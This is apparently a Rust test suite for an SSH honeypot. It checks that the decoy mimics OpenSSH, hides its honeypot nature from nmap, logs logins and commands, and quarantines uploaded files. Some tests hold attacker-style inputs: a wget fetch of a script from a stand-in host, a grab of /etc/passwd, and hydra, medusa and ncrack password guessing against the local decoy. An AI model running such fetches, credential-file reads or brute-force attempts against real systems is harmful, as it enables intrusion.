use std::os::unix::process::ExitStatusExt as _;

use crate::testing::{House, client, ran};

const QUIET: [&str; 8] = [
    "-o",
    "StrictHostKeyChecking=no",
    "-o",
    "UserKnownHostsFile=/dev/null",
    "-o",
    "PreferredAuthentications=password",
    "-o",
    "LogLevel=ERROR",
];

/// Runs a client of OpenSSH with a password; `None` where it is not installed.
fn ssh(
    house: &House,
    program: &str,
    password: &str,
    rest: &[&str],
) -> Option<std::process::Output> {
    client(program)?;
    let sshpass = client("sshpass")?;
    let port = house.address.port().to_string();
    let flag = if program == "ssh" { "-p" } else { "-P" };
    let mut words = vec!["-p", password, program];
    words.extend(QUIET);
    words.extend([flag, &port]);
    words.extend(rest);
    Some(ran(&sshpass, &words, b""))
}

#[tokio::test]
async fn ssh_logs_in_runs_a_command_and_it_is_told() {
    let house = House::new("ssh").await;
    let Some(output) = ssh(&house, "ssh", "opensesame", &["root@127.0.0.1", "uname -a; id"]) else {
        return;
    };
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(text.contains(house.persona().os().kernel), "{output:?}");
    assert!(text.contains("uid=0(root)"), "{text}");
    let hello = house.event("handshake").await;
    assert!(hello["bartizan"]["decoy"]["client"].as_str().unwrap().starts_with("SSH-2.0-OpenSSH"));
    assert_eq!(hello["bartizan"]["ssh"]["hassh"].as_str().unwrap().len(), 32);
    let login = house.event("login").await;
    assert_eq!(login["user"]["name"], "root");
    assert_eq!(login["bartizan"]["decoy"]["password"], "opensesame");
    assert_eq!(login["event"]["outcome"], "success");
    let command = house.event("command").await;
    assert_eq!(command["process"]["command_line"], "uname -a; id");
    let end = house.event("disconnect").await;
    let session = end["session"]["id"].as_str().unwrap();
    let said = house.vault().transcript(session).unwrap();
    let said: Vec<u8> = said.parts.into_iter().flat_map(|part| part.bytes).collect();
    assert!(String::from_utf8_lossy(&said).contains("uid=0(root)"));
}

#[tokio::test]
async fn a_wrong_password_is_refused_and_told() {
    let house = House::new("ssh").await;
    let Some(output) = ssh(&house, "ssh", "wrong", &["admin@127.0.0.1", "id"]) else { return };
    assert!(!output.status.success());
    let login = house.event("login").await;
    assert_eq!(login["bartizan"]["decoy"]["password"], "wrong");
    assert_eq!(login["event"]["outcome"], "failure");
}

#[tokio::test]
async fn a_terminal_is_like_one() {
    let house = House::new("ssh").await;
    let Some(sshpass) = client("sshpass").filter(|_| client("ssh").is_some()) else { return };
    let port = house.address.port().to_string();
    let mut words = vec!["-p", "opensesame", "ssh", "-tt"];
    words.extend(QUIET);
    words.extend(["-p", &port, "root@127.0.0.1"]);
    let typed = b"whoami\ncd /tmp\nwget http://203.0.113.1/a.sh\necho hi > a.sh\nexit\n";
    let output = ran(&sshpass, &words, typed);
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    let host = house.persona().host_name();
    assert!(text.contains(&format!("root@{host}:~# whoami\r\nroot\r\n")), "{text}");
    assert!(text.contains(&format!("root@{host}:/tmp# ")), "{text}");
    let download = house.event("download").await;
    assert_eq!(download["url"]["original"], "http://203.0.113.1/a.sh");
    let upload = house.event("upload").await;
    assert_eq!(upload["file"]["name"], "/tmp/a.sh");
    let kept = house.vault().quarantined();
    assert_eq!((kept.len(), kept[0].bytes), (1, 3));
}

#[tokio::test]
async fn files_that_are_copied_here_are_quarantined() {
    let house = House::new("ssh").await;
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("bot.bin");
    let bytes: Vec<u8> = (0..200_000_u32).map(|at| u8::try_from(at % 251).unwrap()).collect();
    std::fs::write(&path, &bytes).unwrap();
    let from = path.to_str().unwrap();
    for old in [false, true] {
        let mut rest = if old { vec!["-O"] } else { vec![] };
        rest.extend([from, "root@127.0.0.1:/tmp/bot.bin"]);
        let Some(output) = ssh(&house, "scp", "opensesame", &rest) else { return };
        assert!(output.status.success(), "{old} {output:?}");
        let upload = house.event("upload").await;
        assert_eq!(upload["file"]["size"], 200_000);
        assert_eq!(upload["bartizan"]["decoy"]["method"], if old { "scp" } else { "sftp" });
    }
    let kept = house.vault().quarantined();
    assert_eq!(kept.len(), 1);
    let contents = house.vault().contents(&kept[0].sha256).unwrap();
    let contents: Vec<u8> = contents.flat_map(Result::unwrap).collect();
    assert_eq!(contents, bytes);
    // And what is asked for comes, made up.
    let back = folder.path().join("passwd");
    let to = back.to_str().unwrap();
    let Some(output) = ssh(&house, "scp", "opensesame", &["root@127.0.0.1:/etc/passwd", to]) else {
        return;
    };
    assert!(output.status.success(), "{output:?}");
    assert!(std::fs::read_to_string(&back).unwrap().starts_with("root:x:0:0:"));
}

#[tokio::test]
async fn what_is_no_ssh_is_answered_as_openssh_does() {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let house = House::new("ssh").await;
    let mut stream = house.connect().await;
    stream.write_all(b"GET / HTTP/1.0\r\n\r\n").await.unwrap();
    let mut text = String::new();
    // The end may come as a reset, since not all was read.
    let _ = stream.read_to_string(&mut text).await;
    assert!(text.starts_with(&format!("SSH-2.0-{}\r\n", house.persona().version("ssh"))), "{text}");
    assert!(text.contains("Invalid SSH identification string."), "{text}");
    house.event("request").await;
}

#[tokio::test]
async fn the_algorithms_come_in_the_order_of_openssh() {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let house = House::new("ssh").await;
    let mut stream = house.connect().await;
    stream.write_all(b"SSH-2.0-Go\r\n").await.unwrap();
    let mut all = Vec::new();
    while !String::from_utf8_lossy(&all).contains("zlib@openssh.com") {
        assert!(stream.read_buf(&mut all).await.unwrap() > 0);
    }
    let text = String::from_utf8_lossy(&all).into_owned();
    assert!(text.contains("curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group-exchange-sha256,diffie-hellman-group16-sha512,diffie-hellman-group18-sha512,diffie-hellman-group14-sha256"), "{text}");
    assert!(
        text.contains("rsa-sha2-512,rsa-sha2-256,ssh-rsa,ecdsa-sha2-nistp256,ssh-ed25519"),
        "{text}"
    );
    assert!(text.contains("chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com,aes256-gcm@openssh.com"), "{text}");
    assert!(text.contains("none,zlib@openssh.com"), "{text}");
}

#[tokio::test]
async fn nmap_names_openssh() {
    let house = House::new("ssh").await;
    let Some(nmap) = client("nmap") else { return };
    let port = house.address.port().to_string();
    let output = ran(&nmap, &["-Pn", "-n", "-sT", "-sV", "-p", &port, "127.0.0.1"], b"");
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(text.contains("OpenSSH 8."), "{text}");
    assert!(!text.to_lowercase().contains("honeypot") && !text.contains("owrie"), "{text}");
}

#[tokio::test]
async fn hydra_medusa_and_ncrack_find_the_password() {
    for program in ["hydra", "medusa", "ncrack"] {
        let house = House::new("ssh").await;
        let Some(path) = client(program) else { continue };
        let folder = tempfile::tempdir().unwrap();
        let words = folder.path().join("words");
        std::fs::write(&words, "nothing\nopensesame\n").unwrap();
        let (words, port) = (words.to_str().unwrap(), house.address.port().to_string());
        let target = format!("ssh://127.0.0.1:{port}");
        let output = match program {
            "hydra" => ran(&path, &["-l", "root", "-P", words, "-t", "2", "-I", &target], b""),
            "medusa" => ran(
                &path,
                &["-h", "127.0.0.1", "-n", &port, "-u", "root", "-P", words, "-M", "ssh"],
                b"",
            ),
            _ => ran(&path, &["--user", "root", "-P", words, "-T4", &target], b""),
        };
        if let Some(signal) = output.status.signal() {
            // Some builds of ncrack fall over every SSH server; the visit is told all the same.
            eprintln!("skipped: {program} ended by signal {signal}");
            house.event("connection").await;
            continue;
        }
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        assert!(text.contains("opensesame"), "{program}: {output:?}");
        let login = house.event_where(|event| event["event"]["outcome"] == "success").await;
        assert_eq!(login["bartizan"]["decoy"]["password"], "opensesame", "{program}");
    }
}
